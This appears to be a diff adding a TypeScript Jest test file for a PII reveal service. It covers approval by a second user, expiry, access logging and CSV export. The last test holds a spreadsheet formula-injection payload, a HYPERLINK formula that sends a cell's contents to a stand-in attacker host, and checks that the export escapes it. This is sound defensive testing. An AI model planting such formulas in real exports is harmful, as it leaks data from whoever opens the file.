@@ -0,0 +1,91 @@
+import * as fs from 'fs';
+import * as os from 'os';
+import * as path from 'path';
+import { PIIService } from '../pii.service';
+import { PIIRevealService } from '../pii-reveal.service';
+
+// uuid ships as ESM only, which ts-jest does not transform
+jest.mock('uuid', () => ({ v4: () => require('crypto').randomUUID() }));
+
+describe('PII reveal', () => {
+  const sessionId = '3f9a7c1e-5b2d-4e8f-9a6c-1d2e3f4a5b6c';
+  const requester = { userId: 'user-1', username: 'alice' };
+  const approver = { userId: 'user-2', username: 'bob' };
+  const justification = 'Customer asked for their data under a subject access request';
+
+  let dataDir: string;
+  let piiService: PIIService;
+  let revealService: PIIRevealService;
+
+  beforeEach(async () => {
+    dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'catalai-reveal-'));
+    piiService = new PIIService(dataDir, 'test-key');
+    revealService = new PIIRevealService(dataDir, piiService);
+    await piiService.scrubAndStore('555-123-4567 takes refunds for jane@example.com', sessionId);
+  });
+
+  afterEach(() => {
+    jest.restoreAllMocks();
+    fs.rmSync(dataDir, { recursive: true, force: true });
+  });
+
+  it('should reveal values straight away when no approval is required', async () => {
+    const request = await revealService.createRequest(sessionId, { tokens: ['[EMAIL_1]'], justification }, requester);
+
+    expect(request.status).toBe('approved');
+    const { values } = await revealService.reveal(request.requestId, requester);
+    expect(values).toEqual({ '[EMAIL_1]': 'jane@example.com' });
+
+    await expect(revealService.createRequest(sessionId, { tokens: ['[EMAIL_9]'], justification }, requester))
+      .rejects.toThrow('Unknown tokens for session: [EMAIL_9]');
+  });
+
+  it('should require a second approver and refuse use by anyone but the requester', async () => {
+    await revealService.updateSettings({ requireApproval: true, revealMinutes: 10 }, 'admin');
+    const request = await revealService.createRequest(sessionId, { justification }, requester);
+
+    expect(request).toMatchObject({ status: 'pending', tokens: ['[PHONE_1]', '[EMAIL_1]'] });
+    await expect(revealService.reveal(request.requestId, requester)).rejects.toThrow('not approved');
+    await expect(revealService.reviewRequest(request.requestId, true, requester)).rejects.toThrow('someone other than the requester');
+
+    const approved = await revealService.reviewRequest(request.requestId, true, approver, 'Confirmed with the DPO');
+    expect(approved).toMatchObject({ status: 'approved', reviewedByName: 'bob' });
+    await expect(revealService.reviewRequest(request.requestId, false, approver)).rejects.toThrow('already been approved');
+    await expect(revealService.reveal(request.requestId, approver)).rejects.toThrow('Only the requester');
+
+    const { values } = await revealService.reveal(request.requestId, requester);
+    expect(values['[PHONE_1]']).toBe('555-123-4567');
+  });
+
+  it('should stop revealing once the request expires', async () => {
+    const request = await revealService.createRequest(sessionId, { justification }, requester);
+    jest.spyOn(Date, 'now').mockReturnValue(new Date(request.expiresAt!).getTime() + 1);
+
+    await expect(revealService.reveal(request.requestId, requester)).rejects.toThrow('expired');
+  });
+
+  it('should record each step in the access log and export it as CSV', async () => {
+    await revealService.updateSettings({ requireApproval: true, revealMinutes: 10 }, 'admin');
+    const request = await revealService.createRequest(sessionId, { tokens: ['[EMAIL_1]'], justification }, requester);
+    await revealService.reviewRequest(request.requestId, true, approver);
+    await revealService.reveal(request.requestId, requester);
+
+    const accessLog = await piiService.getAccessLog(sessionId);
+    expect(accessLog.map(entry => entry.purpose)).toEqual(['create_mapping', 'reveal_requested', 'reveal_approved', 'reveal']);
+    expect(accessLog[3]).toMatchObject({ userId: 'user-1', requestId: request.requestId, justification, tokens: ['[EMAIL_1]'] });
+
+    const csv = (await revealService.exportAccessLogCsv(sessionId)).split('\n');
+    expect(csv[0]).toBe('Timestamp,User ID,Purpose,Request ID,Justification,Tokens');
+    expect(csv[4]).toContain(`,user-1,reveal,${request.requestId},${justification},[EMAIL_1]`);
+  });
+
+  it('should not export justifications as spreadsheet formulas', async () => {
+    const formula = '=HYPERLINK("https://attacker.example/?d="&A1,"Subject access request")';
+    await revealService.createRequest(sessionId, { justification: formula }, requester);
+    await revealService.createRequest(sessionId, { justification: '@SUM(1+1) for the audit' }, requester);
+
+    const csv = (await revealService.exportAccessLogCsv(sessionId)).split('\n');
+    expect(csv[2]).toContain(`,"'${formula.replace(/"/g, '""')}",`);
+    expect(csv[3]).toContain(",'@SUM(1+1) for the audit,");
+  });
+});